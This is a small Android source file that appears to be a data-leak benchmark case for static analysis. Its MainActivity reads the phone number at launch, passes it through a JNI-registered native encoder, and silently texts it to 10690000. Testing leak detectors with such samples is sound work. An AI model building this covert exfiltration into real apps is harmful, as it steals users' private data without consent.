// about       RegisterNatives binds the Java name to the function that copies.
// leak        PHONE_NUMBER sms
// native      RegisteredTable_leak.c
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String text = Codec.encode(String.valueOf(phone.getLine1Number()));
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }
}

class Codec {
  static {
    System.loadLibrary("RegisteredTable_leak");
  }

  static native String encode(String text);
}
